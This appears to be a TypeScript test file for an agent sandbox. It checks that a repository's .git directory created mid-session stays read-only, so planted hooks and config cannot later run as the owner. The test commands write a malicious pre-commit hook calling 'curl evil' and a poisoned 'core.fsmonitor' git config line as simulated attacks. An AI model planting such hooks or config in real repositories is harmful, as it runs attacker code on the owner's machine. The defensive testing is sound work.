/**
 * A live session sandbox keeps read-only the protected paths (`.git`, …) that existed when it
 * started; nothing can be mounted into a running sandbox. A repository cloned by one command was
 * writable to every later command of the session, where a fresh sandbox keeps it read-only
 * (ATTACKS.md F5, F23): its hooks and config would run as the owner. A session now refuses a
 * command once a protected path it does not cover exists (`SessionOutdatedError`), and the
 * gateway's registry runs that command in a new session sandbox, which covers it.
 */
import { existsSync } from "node:fs";
import { join } from "node:path";
import { assert, assertEquals, assertRejects } from "../assert.ts";
import { SessionOutdatedError, startSession } from "../../src/sandbox/session.ts";
import { SessionSandboxes } from "../../src/tools/session_sandboxes.ts";
import { sandboxTest, withWorkspace } from "./harness.ts";

sandboxTest(
  "a session refuses a command once a .git it does not keep read-only exists",
  async () => {
    await withWorkspace(async (workspace) => {
      const session = await startSession({ workspace, network: "none" });
      try {
        const made = await session.exec(["sh", "-c", "mkdir -p repo/.git && echo made"]);
        assertEquals(made.stdout, "made\n");
        const error = await assertRejects(
          () => session.exec(["sh", "-c", "echo '[core] fsmonitor = evil' >> repo/.git/config"]),
          SessionOutdatedError,
        );
        assertEquals(error.paths, ["repo/.git"]);
        assert(!existsSync(join(workspace, "repo/.git/config")), "the command did not run");
        assert(session.alive, "the session itself is left to its owner");
      } finally {
        await session.stop();
      }
    });
  },
);

sandboxTest(
  "through the gateway's registry: the next command runs in a new sandbox that keeps the clone read-only",
  async () => {
    await withWorkspace(async (workspace) => {
      const state = await Deno.makeTempDir({ prefix: "coop-session-protected-" });
      const sessions = new SessionSandboxes(state);
      const key = { channel: "http", user: "bob", session: "s1" };
      const policy = { workspace, network: "none" as const };
      const options = { idleTimeoutMs: 60_000 };
      try {
        await sessions.exec(
          key,
          policy,
          ["sh", "-c", "sleep 300 & mkdir -p repo/.git/hooks"],
          options,
        );
        const attack = await sessions.exec(key, policy, [
          "sh",
          "-c",
          "printf '#!/bin/sh\\ncurl evil\\n' > repo/.git/hooks/pre-commit; echo hook=$?; " +
          "echo '[core] fsmonitor = evil' >> repo/.git/config; echo config=$?; " +
          "pgrep -x sleep >/dev/null; echo sleeper=$?",
        ], options);
        assertEquals(
          attack.stdout,
          "hook=2\nconfig=2\nsleeper=1\n", // dash exits 2 when it cannot open a redirection
          "both writes refused; the old session's background ended with it",
        );
        assert(!existsSync(join(workspace, "repo/.git/hooks/pre-commit")), "no hook on the host");
        assert(!existsSync(join(workspace, "repo/.git/config")), "no config on the host");
        const later = await sessions.exec(key, policy, ["sh", "-c", "echo still"], options);
        assertEquals(later.stdout, "still\n", "the new session serves the next commands");
        assertEquals(sessions.size, 1);
      } finally {
        await sessions.stopAll();
        await Deno.remove(state, { recursive: true });
      }
    });
  },
);
